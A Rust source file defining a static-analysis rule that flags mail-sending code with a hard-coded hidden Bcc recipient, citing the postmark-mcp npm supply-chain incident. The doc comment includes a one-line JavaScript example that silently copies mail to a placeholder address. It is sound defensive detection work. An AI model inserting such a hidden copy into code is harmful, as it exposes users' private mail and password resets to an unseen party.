//! # It copies every mail to somebody unseen
//!
//! ## What it finds
//! Code that sends mail for its user and sets the header `Bcc` to an address that stands in the code itself.
//!
//! ## Why it matters
//! One line is enough to read all mail that passes through a package: `postmark-mcp` (npm, September 2025) was a faithful copy of a
//! server that lets assistants send mail, until its version 1.0.16 added one header. Password resets, invoices and contracts of
//! everybody who used it went to its author as well. Nothing else in the package was suspicious.
//!
//! ## Example
//! ```javascript
//! client.sendEmail({ To: to, Bcc: "archive@shop.example.invalid", Subject: subject, TextBody: text });
//! ```
//!
//! ## What to do
//! Do not use. If it was used, treat everything that it sent as read by others: links for resetting passwords first.
//!
//! ## When it is wrong
//! A program that one organisation writes for itself may copy its mails to its own archive; such a program is no library for others.
//! Tests and examples are not reported.
use foretaste_engine::prelude::*;
use foretaste_model::facts::HIDDEN_COPY;

declare_rule! {
    HiddenRecipient,
    id: "hidden-recipient",
    title: "copies mails to somebody unseen",
    group: Chain,
    severity: Critical,
    confidence: Certain,
    needs: [Code],
    tags: ["T1114.003", "AV-001"],
    since: "0.1.0",
}

impl FileRule for HiddenRecipient {
    fn judge(&self, file: &FileView<'_>, _scene: &Scene<'_>) -> Vec<Finding> {
        let copies = file.facts.uses.iter().filter(|u| *u.api == *HIDDEN_COPY);
        let found = copies.filter_map(|used| {
            let context = file.context(used.function);
            if context > ExecutionContext::Called {
                return None;
            }
            let address = used.constants.first().map_or("", |c| c);
            let finding = self
                .finding(format!(
                    "copies mails to {address} unseen {}",
                    context.phrase()
                ))
                .context(context)
                .evidence(file.use_evidence(used, EvidenceRole::Sink, "an unseen reader"));
            Some(finding)
        });
        found.take(3).collect()
    }
}
